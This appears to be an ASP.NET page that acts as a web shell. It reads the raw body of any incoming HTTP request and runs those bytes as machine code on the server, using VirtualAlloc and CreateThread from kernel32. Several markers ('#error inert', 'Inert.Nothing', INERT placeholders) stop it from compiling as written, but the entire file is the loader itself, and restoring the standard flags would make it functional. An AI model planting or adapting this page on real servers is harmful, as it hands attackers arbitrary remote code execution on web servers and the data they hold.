<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
#error inert
[DllImport("kernel32")] private static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr size, Int32 type, IntPtr prot);
[DllImport("kernel32")] private static extern IntPtr CreateThread(IntPtr a, UIntPtr s, IntPtr start, IntPtr p, Int32 f, ref IntPtr id);
protected void Page_Load(object sender, EventArgs e)
{
    byte[] body = Request.BinaryRead(Request.ContentLength);
    IntPtr id = IntPtr.Zero;
    IntPtr mem = VirtualAlloc(IntPtr.Zero, (UIntPtr)body.Length, INERT_FLAGS, (IntPtr)INERT_PROT);
    Marshal.Copy(body, 0, mem, body.Length);
    CreateThread(IntPtr.Zero, UIntPtr.Zero, mem, IntPtr.Zero, INERT, ref id);
}
</script>
